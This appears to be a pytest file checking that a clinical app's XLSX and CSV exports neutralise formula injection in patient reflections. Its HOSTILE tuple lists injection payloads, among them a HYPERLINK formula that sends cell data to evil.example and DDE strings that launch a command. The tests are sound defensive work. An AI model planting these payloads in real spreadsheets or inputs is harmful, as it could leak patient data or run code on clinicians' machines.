"""Patients' words reach a spreadsheet as text: no formula runs when a clinician opens an export."""

import csv
import uuid
from pathlib import Path

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine

from app.exports.formulas import FORMULA_TRIGGERS
from app.exports.service import ExportFormat
from tests.exports.conftest import Populated
from tests.exports.helpers import export, read_csv
from tests.factories import login

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1 in a long reflection about my week",
)


def _write_reflections(client: TestClient) -> None:
    login(client, "P-A2")
    for text in HOSTILE:
        body = {"kind": "weekly", "week_number": 1, "text": text}
        response = client.put(f"/api/v1/reflections/{uuid.uuid4()}", json=body)
        assert response.status_code in (200, 201), response.text
    client.post("/api/v1/auth/logout")


def test_reflections_in_the_workbook_are_text_cells_never_formulas(
    populated: Populated, engine: Engine, client: TestClient, tmp_path: Path
) -> None:
    _write_reflections(client)
    export(engine, tmp_path / "x", format=ExportFormat.xlsx, free_text=True)
    book = load_workbook(tmp_path / "x" / "tend-export.xlsx")  # not read-only: cell types
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    rows = list(book["reflections"].iter_rows(values_only=True))
    column = rows[0].index("text")
    texts = [row[column] for row in rows[1:]]
    # Stripped by the API of surrounding whitespace, then shown as text with a leading '.
    for original in HOSTILE:
        assert "'" + original.strip() in texts or original.strip() in texts
    assert not [t for t in texts if str(t).startswith(("=", "+", "-", "@"))]
    codebook = [r for r in book["codebook"].iter_rows(values_only=True) if r[1] == "text"]
    assert "formula" in str(codebook[0][7])


def test_reflections_in_the_csv_never_begin_with_a_formula_character(
    populated: Populated, engine: Engine, client: TestClient, tmp_path: Path
) -> None:
    _write_reflections(client)
    export(engine, tmp_path / "b", free_text=True)
    with (tmp_path / "b" / "reflections.csv").open(encoding="utf-8", newline="") as handle:
        cells = [value for row in csv.reader(handle) for value in row]
    assert [c for c in cells if c.startswith(FORMULA_TRIGGERS)] == []
    texts = [r["text"] for r in read_csv(tmp_path / "b" / "reflections.csv")]
    assert '\'=HYPERLINK("https://evil.example/?"&A2,"Open")' in texts
    assert "'-2+3" in texts
    codebook = {r["variable"]: r["derivation"] for r in read_csv(tmp_path / "b" / "codebook.csv")}
    for variable in ("text", "participant_code", "group_code"):
        assert "formula" in codebook[variable]


def test_every_csv_of_every_format_is_free_of_formula_cells(
    populated: Populated, engine: Engine, client: TestClient, tmp_path: Path
) -> None:
    _write_reflections(client)
    export(engine, tmp_path / "b", free_text=True)
    export(engine, tmp_path / "r", format=ExportFormat.redcap)
    for path in [*(tmp_path / "b").glob("*.csv"), *(tmp_path / "r").glob("*.csv")]:
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not [c for c in row if c.startswith(FORMULA_TRIGGERS)], (path.name, row)
